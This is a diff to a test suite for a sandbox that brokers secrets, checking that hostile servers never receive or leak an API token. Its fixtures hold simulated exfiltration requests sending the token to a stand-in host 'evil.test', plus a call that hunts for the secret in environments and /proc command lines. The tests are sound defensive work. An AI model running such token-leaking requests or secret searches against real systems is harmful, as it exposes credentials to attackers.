@@ -63,6 +63,8 @@ def _calls(https: int, plain: int, brokered: bool) -> list[tuple[str, dict[str, 
         send(f"http://other.test:{plain}/plain", {"Authorization": "Bearer $API_TOKEN"}),
         send(f"https://evil.test:{https}/own", {"X-Leak": "$API_TOKEN"}, insecure=True),
         send(f"{api}/echo", {"Authorization": "Bearer $API_TOKEN"}),
+        # Every environment and command line it can see (its own, /proc of any other).
+        ("find_secret", {"needle": VALUE}),
     ]
 
 
@@ -124,9 +126,10 @@ def test_a_hostile_server_never_holds_nor_leaks_a_brokered_secret(
     for request in seen:
         if VALUE in request.whole():
             assert request.host == "api.test", request.whole()
-    # The host echoes the header back: the server reads it, the client never sees the value.
-    assert _at(seen, "/echo") and VALUE not in texts[7]
-    assert "[secret masked: API_TOKEN]" in texts[7]
+    # The host echoes the header back: the server reads its sentinel there, never the value.
+    assert _at(seen, "/echo") and VALUE in _at(seen, "/echo")[0].whole()
+    assert texts[7].startswith("OK 200: you sent Bearer ironcurtain-sentinel-")
+    assert texts[8] == "FAILED: not found"  # not in any environ or cmdline it can read
     # Refusals audited by server, host and reason; the value never in the audit log.
     assert VALUE not in got["audit"]
     audit = audit_entries(user.root / "audit.jsonl")
@@ -148,6 +151,8 @@ def test_control_the_same_attacks_leak_the_value_when_it_is_in_the_environment(
     assert VALUE in got["plain"][0].whole()  # another allowed host, over plain HTTP
     assert VALUE in _at(got["seen"], "/body")[0].whole()
     assert VALUE in _at(got["seen"], "/query")[0].whole()
+    assert got["texts"][8] == "OK found in own environment"
+    assert VALUE in got["texts"][7]  # the echoing host hands it back
 
 
 @needs_bwrap
